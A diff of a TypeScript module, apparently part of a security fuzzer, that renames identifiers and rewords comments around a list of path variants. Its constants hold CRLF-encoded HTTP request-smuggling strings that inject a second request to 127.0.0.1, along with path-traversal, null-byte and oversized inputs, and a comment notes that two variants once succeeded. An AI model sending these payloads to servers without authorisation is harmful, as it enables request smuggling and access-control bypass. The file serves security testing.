@@ -1,13 +1,13 @@
-/** A second request, written so that it would be one if a line break in a path were one. */
+/** A second request that becomes real if a server decodes the encoded line breaks of a path. */
 const HIDDEN = [
   ...['Host:127.0.0.1', 'Content-Length:0', '', 'GET%20/logged%20HTTP/1.1', 'Host:127.0.0.1'],
   ...['X-Request-Id:smuggled', 'X-Rest:'],
 ].join('%0d%0a')
 
-/** Ends the request at a number in the path, and lets the rest of the path begin another. */
+/** Ends the request inside the path, so that the rest of the path starts another request. */
 const SECOND_REQUEST = '%0d%0aHost:127.0.0.1%0d%0aContent-Length:0%0d%0a%0d%0aGET%20'
 
-/** Put into a path at several places. */
+/** Texts inserted into a path at several places. */
 const INSERTS = [
   ...['%0d%0a', '%0D%0A', '%0d', '%0a', '%00', '%01', '%09', '%1f', '%1F', '%7f', '%7F', '%20'],
   ...['%3f', '%3F', '%23', '%2f', '%2F..', '%2f..%2f', '%2f..%2f..', '..%2f', '%2e%2e', '%5c..'],
@@ -18,16 +18,16 @@ const INSERTS = [
   ...['a'.repeat(300), 'a'.repeat(9000), 'a'.repeat(33_000), '%41'.repeat(2000)],
 ]
 
-interface Spelling {
+interface PathVariant {
   name: string
   spell: (path: string) => string
 }
 
 const cut = (path: string) => path.lastIndexOf('/')
 
-/** Ways to write a path that end, split or resolve it elsewhere than it seems. */
-export const SPELLINGS: Spelling[] = [
-  // The two that broke in before: they come first, so that every run has them.
+/** Ways to write a path whose end, split or resolution servers may read differently. */
+export const PATH_VARIANTS: PathVariant[] = [
+  // The two variants that once succeeded come first, so that every run includes them.
   {
     name: 'a second request',
     spell: (path) => path.replace('/1/', `/1${SECOND_REQUEST}/`),
